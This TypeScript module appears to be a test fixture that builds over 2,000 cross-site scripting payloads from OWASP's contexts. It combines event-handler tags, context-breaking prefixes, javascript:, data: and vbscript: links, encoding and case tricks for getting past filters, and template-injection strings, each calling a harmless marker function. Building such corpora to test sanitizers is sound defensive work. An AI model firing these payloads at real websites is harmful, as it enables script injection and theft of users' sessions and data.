/** Global function that a hostile text calls if it runs. */
export const RAN = 'xss'

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'onscroll',
  'oncontentvisibilityautostatechange',
]

const ELEMENTS = [
  'img src=x',
  'svg',
  'input autofocus',
  'details open',
  'body',
  'video src=x',
  'audio src=x',
  'iframe',
  'marquee',
  'math',
  'object data=x',
  'p tabindex=0 autofocus',
  'a href=# autofocus',
  'style',
]

/** What may end the context that the text stands in. */
const ENDINGS = [
  '',
  '">',
  "'>",
  '</script>',
  '</textarea>',
  '</title>',
  '</style>',
  '-->',
  ']]>',
  '</noscript>',
  '`}',
  '\\"',
]

const SEPARATORS = [' ', '/', '\t', '\n']

const ADDRESSES = [
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  'java\tscript:CALL',
  'java\nscript:CALL',
  ' javascript:CALL',
  '\u0001javascript:CALL',
  '&#106;avascript:CALL',
  'javascript&colon;CALL',
  'data:text/html,<script>CALL</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'vbscript:CALL',
]

const LINKS = [
  '<a href="ADDRESS">点</a>',
  '<iframe src="ADDRESS"></iframe>',
  '<form action="ADDRESS"><button>点</button></form>',
  '<button formaction="ADDRESS">点</button>',
  '<svg><a xlink:href="ADDRESS"><text>点</text></a></svg>',
  '<object data="ADDRESS"></object>',
  '<embed src="ADDRESS">',
  '<base href="ADDRESS">',
  '<meta http-equiv=refresh content="0;url=ADDRESS">',
  '<math href="ADDRESS">点</math>',
  '<img src="ADDRESS">',
  '<link rel=stylesheet href="ADDRESS">',
  'ADDRESS',
]

const WHOLE = [
  '<script>CALL</script>',
  '<ScRiPt >CALL</ScRiPt>',
  '<script\n>CALL</script\n>',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<svg><script>CALL</script></svg>',
  '<svg><foreignObject><script>CALL</script></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CALL>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<template><img src=x onerror=CALL></template>',
  '&lt;img src=x onerror=CALL&gt;',
  '&#x3c;img src=x onerror=CALL&#x3e;',
  '\\u003cimg src=x onerror=CALL\\u003e',
  '%3Cimg src=x onerror=CALL%3E',
  '＜img src=x onerror=CALL＞',
  '<!--><img src=x onerror=CALL>-->',
  '<![CDATA[><img src=x onerror=CALL>]]>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">CALL</x:script>',
  '{{constructor.constructor("CALL")()}}',
  '${CALL}',
  '#{CALL}',
  '<%= CALL %>',
  '[点](javascript:CALL)',
  '![x](x" onerror="CALL)',
  '__proto__[x]=CALL',
]

/**
 * Over 2,000 texts that run a call of `RAN` where a page shows one of them as HTML, opens it as an address or evaluates
 * it. Collected from the contexts of OWASP's cheat sheet on cross-site scripting: element, attribute, address, script,
 * style, template and double decoding.
 */
export function hostileTexts(): string[] {
  const call = `${RAN}()`
  const events = HANDLERS.flatMap((handler) =>
    ELEMENTS.flatMap((element, at) =>
      ENDINGS.map((ending, turn) => {
        const separator = SEPARATORS[(at + turn) % SEPARATORS.length]!
        return `${ending}<${element}${separator}${handler}=${call}>`
      }),
    ),
  )
  const links = LINKS.flatMap((link) => ADDRESSES.map((address) => link.replace('ADDRESS', address)))
  const whole = ENDINGS.flatMap((ending) => WHOLE.map((text) => ending + text))
  return [...new Set([...whole, ...links, ...events])].map((text) => text.replaceAll('CALL', call))
}
